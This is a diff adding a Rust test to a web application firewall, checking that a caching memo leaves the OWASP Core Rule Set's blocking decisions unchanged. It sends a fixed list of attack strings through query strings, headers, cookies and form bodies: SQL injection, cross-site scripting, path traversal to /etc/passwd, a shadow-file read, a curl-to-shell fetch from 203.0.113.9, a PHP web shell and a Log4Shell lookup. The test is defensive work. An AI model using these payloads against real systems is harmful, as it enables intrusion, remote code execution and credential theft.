@@ -194,3 +194,100 @@ fn hostile_bodies_get_bounded_work_and_a_verdict() {
     let d = tx.decision().expect("broken multipart is refused");
     assert!(matches!(d.rule_id, 200002 | 200003), "{fired:?}");
 }
+
+/// The value memo (what links are known not to match a value, kept across transactions)
+/// never changes what CRS decides: the same requests through a rule set with the memo and one
+/// without give the same matched rules (variables, data, scores) and the same decision, the
+/// second round too, when every value is already in the memo. Attack payloads are sent in
+/// places where some rules do not match them before places where others do, beside benign
+/// values the memo already holds.
+#[test]
+fn the_value_memo_never_changes_a_decision() {
+    use sekisho_waf::engine::{RequestHead, Transaction, Waf};
+    let Some(crs) = corpus("crs") else {
+        return;
+    };
+    let files = waf_crs::crs_files(&crs);
+    let with = std::sync::Arc::new(Waf::load(&files).unwrap());
+    let mut off = Waf::load(&files).unwrap();
+    off.set_value_memo(0);
+    let without = std::sync::Arc::new(off);
+    let payloads = [
+        "patient record 12",
+        "1' OR '1'='1",
+        "1 union select password from users--",
+        "<script>alert(1)</script>",
+        "javascript:alert(document.cookie)",
+        "../../../../etc/passwd",
+        "; cat /etc/shadow",
+        "$(curl http://203.0.113.9/x|sh)",
+        "<?php system($_GET['c']); ?>",
+        "${jndi:ldap://203.0.113.9/a}",
+        "%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
+        "admin'--",
+        "SELECT * FROM pg_sleep(5)",
+        "http://203.0.113.9/shell.txt?",
+        "{{7*7}}",
+        "ward 3",
+    ];
+    let mut requests: Vec<(RequestHead, Vec<u8>)> = Vec::new();
+    for p in payloads {
+        let q = p.replace('%', "%25").replace(' ', "+").replace('&', "%26");
+        let uri = format!("/portal/list?page=2&q={q}");
+        requests.push((waf_crs::head("GET", &uri, &[]), Vec::new()));
+        let cookie = format!("session=8f2a9c1d4b7e; pref={}", p.replace(';', ""));
+        requests.push((
+            waf_crs::head(
+                "GET",
+                "/portal/list?page=2",
+                &[("X-Note", p), ("Cookie", &cookie)],
+            ),
+            Vec::new(),
+        ));
+        let form = format!("name=patient&note={q}&code=A00037");
+        requests.push((form_post(&form), form.into_bytes()));
+        requests.push((waf_crs::benign_get(), Vec::new()));
+    }
+    let run = |w: &std::sync::Arc<Waf>, (h, body): &(RequestHead, Vec<u8>)| {
+        let mut tx = Transaction::new(std::sync::Arc::clone(w), h);
+        tx.request_headers();
+        tx.request_body(body, body.len());
+        tx.response_headers(
+            200,
+            "HTTP/1.1",
+            &[(b"Content-Type".to_vec(), b"text/html".to_vec())],
+        );
+        tx.response_body(b"<html><body>ok</body></html>");
+        tx.logging();
+        let rules: Vec<_> = tx
+            .matched_rules()
+            .iter()
+            .map(|m| (m.id, m.variable.clone(), m.data.clone(), m.score))
+            .collect();
+        (rules, tx.decision().map(|d| (d.rule_id, d.status)))
+    };
+    let mut attacks = 0;
+    for round in 0..2 {
+        for (i, r) in requests.iter().enumerate() {
+            let want = run(&without, r);
+            let uri = String::from_utf8_lossy(&r.0.uri);
+            assert_eq!(run(&with, r), want, "round {round}, request {i}: {uri}");
+            attacks += usize::from(want.1.is_some());
+        }
+    }
+    assert!(with.value_memo_len() > 50, "{}", with.value_memo_len());
+    assert_eq!(without.value_memo_len(), 0);
+    assert!(attacks >= 40, "only {attacks} requests were blocked");
+}
+
+fn form_post(body: &str) -> sekisho_waf::engine::RequestHead {
+    let len = body.len().to_string();
+    waf_crs::head(
+        "POST",
+        "/claims/submit",
+        &[
+            ("Content-Type", "application/x-www-form-urlencoded"),
+            ("Content-Length", &len),
+        ],
+    )
+}
